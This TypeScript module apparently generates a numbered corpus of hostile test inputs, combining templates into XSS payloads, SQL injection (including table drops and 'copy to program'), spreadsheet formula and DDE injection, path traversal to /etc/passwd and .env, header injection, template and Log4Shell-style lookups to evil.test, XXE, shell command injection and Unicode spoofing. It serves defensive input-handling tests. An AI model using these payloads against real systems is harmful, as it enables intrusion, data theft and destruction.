import { trap } from './values.ts';

/** Makes one text of a number no other text has, so that all differ and each can be told in a page. */
type Kind = (nth: number) => string;

/** Each head before each tail. */
function combine(heads: readonly string[], tails: readonly string[]): Kind[] {
  return heads.flatMap((head) =>
    tails.map(
      (tail): Kind =>
        (nth) =>
          `${head}${tail}`.replaceAll('§', `${nth}`),
    ),
  );
}

/** Each `hole` filled with each of `parts`, where a hole is written `_`. */
function fill(frames: readonly string[], parts: readonly string[]): Kind[] {
  return frames.flatMap((frame) =>
    parts.map(
      (part): Kind =>
        (nth) =>
          frame.replace('_', () => part).replaceAll('§', `${nth}`),
    ),
  );
}

const scripts = [`window.${trap}=§`, `top['${trap}']=§`, `eval('${trap}=§')`, `Function('${trap}=§')()`];
const pages = [
  '<script>_</script>',
  '<ScRiPt >_</sCrIpT >',
  '<script/x>_//',
  '<scr<script>ipt>_</script>',
  '</script><script>_</script>',
  '</title><script>_</script>',
  '</textarea><script>_</script>',
  '</style><script>_</script>',
  '--><script>_</script>',
  ']]><script>_</script>',
  '<template><script>_</script>',
  '<img src=x onerror=_>',
  '<img/src="x"/onerror="_">',
  '"><img src=x onerror=_>',
  `'><img src=x onerror=_>`,
  '" autofocus onfocus="_',
  `' onmouseover='_`,
  '` onclick=`_',
  '<svg onload=_>',
  '<svg/onload=_//',
  '<svg><animate onbegin=_ attributeName=x>',
  '<svg><script>_</script>',
  '<math><a xlink:href="javascript:_">x',
  '<body onload=_>',
  '<details open ontoggle=_>',
  '<video><source onerror=_>',
  '<audio src=x onerror=_>',
  '<input autofocus onfocus=_>',
  '<marquee onstart=_>',
  '<iframe src="javascript:_">',
  '<iframe srcdoc="<script>_</script>">',
  '<object data="javascript:_">',
  '<embed src="javascript:_">',
  '<a href="javascript:_">x</a>',
  '<form><button formaction="javascript:_">x',
  '<meta http-equiv=refresh content=0;javascript:_>',
  '<base href="javascript:_//">',
  '<p style="background:url(javascript:_)">',
  'javascript:_',
  'JaVaScRiPt:_//',
  'java&#9;script:_',
  'data:text/html,<script>_</script>',
  '&lt;script&gt;_&lt;/script&gt;',
  '&#60;script&#62;_&#60;/script&#62;',
  '%3Cscript%3E_%3C/script%3E',
  String.raw`\u003cscript\u003e_\u003c/script\u003e`,
  '\uff1cscript\uff1e_\uff1c/script\uff1e',
  '<\u017fcript>_</\u017fcript>',
];

const quotes = [`'`, `"`, `')`, `'))`, `\\'`, `§`, `'||'`, '$$', '%27', '\u2019'];
const statements = [
  ` or §=§ --`,
  ` or '§'='§`,
  `; drop table classes; --§`,
  ` union select null, § --`,
  `; select pg_sleep(§) --`,
  ` and §=(select count(*) from auth.user) --`,
  `/**/or/**/§=§#`,
  `; truncate profiles cascade; --§`,
  `; copy classes to program 'id §' --`,
];

const formulaStarts = ['=', '+', '-', '@', ' =', `'=`, ';=', '";"=', '\t=', '\uff1d', '\uff0b', '\uff20'];
const formulas = [
  '§+1',
  'HYPERLINK("http://evil.test/§","x")',
  `cmd|' /C calc §'!A0`,
  'SUM(A1:A§)',
  'IMPORTXML("http://evil.test/§","//a")',
  'DDE("cmd";"/C calc";"§")',
];

const ways = [
  '../../../',
  '..\\..\\..\\',
  '/',
  'file:///',
  '%2e%2e%2f%2e%2e%2f',
  '....//....//',
  '..%c0%af..%c0%af',
  'C:\\',
  '\\\\evil.test\\',
  '~/',
];
const files = ['etc/passwd?§', 'windows/win.ini#§', '.env.§', 'proc/§/environ', '.git/refs/§'];

const lineEnds = ['Ada\r\n', 'Ada\n', 'Ada%0d%0a', String.raw`Ada\r\n`, 'Ada\u2028', 'Ada\u560d\u560a'];
const headers = [
  'Set-Cookie: barre.session_token=§',
  'Location: http://evil.test/§',
  'Content-Length: §',
  'Bcc: everyone-§@evil.test',
  'HTTP/1.1 200 §',
];

const templates = [
  '{{_}}',
  '{{{_}}}',
  '${_}',
  '#{_}',
  '*{_}',
  '<%= _ %>',
  '{% _ %}',
  '[[${_}]]',
  '@(_)',
  '$(_)',
  '`_`',
  '{_}',
];
const expressions = [
  '7*§',
  `constructor.constructor('${trap}=§')()`,
  'self.__init__.__globals__[§]',
  'process.env.§',
  'T(java.lang.Runtime).getRuntime().exec(§)',
];

const prototypes = [
  '__proto__.§',
  '__proto__[isAdmin]=§',
  'constructor.prototype.§',
  'constructor[prototype][role]=§',
  '{"__proto__":{"isAdmin":§}}',
  '{"constructor":{"prototype":{"role":§}}}',
  '__defineGetter__ §',
  'hasOwnProperty §',
  'toString §',
  '[object Object] §',
];

const disguises = [
  'Ada \u202egnp.§', // turned round
  'Ada \u2066§\u2069',
  'A\u200bd\u200ba §', // with what is drawn as nothing
  'Ada\u200d §',
  '\ufeffAda §',
  'A\u0301\u0323\u0307da §',
  '\u0410d\u0430 §', // letters of other scripts
  '\ud835\udcd0\ud835\udced\ud835\udcea §',
  'Ada\u{e0041}\u{e0064} §',
  'Ada\ufe0f\u20e3 §',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467} §',
  '\u0130\u0131\u00df\ufb00 §', // letters that grow when they are made great or small
  '\u212a\u017f §',
  '\u0645\u062f\u0631\u0633\u0629 §',
  '\u00a0Ada\u3000§',
  'Ada\u00adN',
];

const notations = [
  '"},{"role":"owner","n":§',
  String.raw`\u0022,"role":"owner","n":§`,
  String.raw`\\§`,
  '${jndi:ldap://evil.test/§}',
  '%s%n%x%§$s',
  'null §',
  'undefined §',
  'NaN §',
  '</§>',
  '<!--#exec cmd="id §"-->',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///proc/§">]><a>&b;</a>',
  '*)(uid=§',
  '; id §;',
  '| id §',
  '&& id §',
];

const kinds: Kind[] = [
  ...fill(pages, scripts),
  ...combine(quotes, statements),
  ...combine(formulaStarts, formulas),
  ...combine(ways, files),
  ...combine(lineEnds, headers),
  ...fill(templates, expressions),
  ...fill(['_'], prototypes),
  ...fill(['_'], disguises),
  ...fill(['_'], notations),
];

/** Texts of all kinds that are hostile where somebody takes them for more than text, each with a number of its own. */
export const hostileTexts: readonly string[] = kinds.map((kind, nth) => kind(1000 + nth));
